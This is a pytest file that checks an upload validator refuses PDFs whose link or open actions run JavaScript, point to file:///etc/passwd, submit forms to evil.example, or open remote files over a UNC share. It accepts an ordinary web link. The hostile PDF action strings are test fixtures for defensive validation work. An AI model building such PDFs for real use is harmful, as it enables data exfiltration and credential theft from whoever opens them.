"""PDFs whose links run script, or whose actions send a form or open another file, are refused,
as the README promises; an ordinary web link is not an action and passes."""

import io

import pytest

from assets.validation import UploadRejected, validate_upload

from . import badfiles as make


def _with_link_action(action: str) -> bytes:
    """A page with a link annotation whose action is `action`."""
    return make.pdf(
        page_extra="/Annots [{0}]",
        extra_objects=(
            f"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << {action} >> >>",
        ),
    )


def _opening_with(action: str) -> bytes:
    return make.pdf(catalog_extra="/OpenAction {0}", extra_objects=(f"<< {action} >>",))


REFUSED = {
    "javascript: link": (
        _with_link_action("/S /URI /URI (javascript:app.alert\\(1\\))"),
        "pdf_javascript",
    ),
    "JavaScript link in capitals with spaces": (
        _with_link_action("/S /URI /URI ( JavaScript :app.alert\\(1\\))"),
        "pdf_javascript",
    ),
    "file: link": (_with_link_action("/S /URI /URI (file:///etc/passwd)"), "pdf_remote_action"),
    "SubmitForm": (
        _opening_with("/S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >>"),
        "pdf_remote_action",
    ),
    "GoToR": (
        _with_link_action("/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit]"),
        "pdf_remote_action",
    ),
    "ImportData": (_opening_with("/S /ImportData /F (data.fdf)"), "pdf_remote_action"),
    "GoToE": (_opening_with("/S /GoToE /T << /R /C /N (x) >>"), "pdf_remote_action"),
}


@pytest.mark.parametrize("data, code", REFUSED.values(), ids=REFUSED.keys())
def test_pdf_with_a_dangerous_action_is_refused(data, code):
    with pytest.raises(UploadRejected) as refused:
        validate_upload(io.BytesIO(data), filename="tai-lieu.pdf", allowed=("document",))
    assert refused.value.code == code
    assert "tai-lieu.pdf" in str(refused.value)


def test_a_pdf_with_a_web_link_is_accepted():
    data = _with_link_action("/S /URI /URI (https://mst.gov.vn/chuyen-doi-so)")
    sniffed = validate_upload(io.BytesIO(data), filename="tai-lieu.pdf", allowed=("document",))
    assert sniffed.family == "document" and sniffed.pages == 1
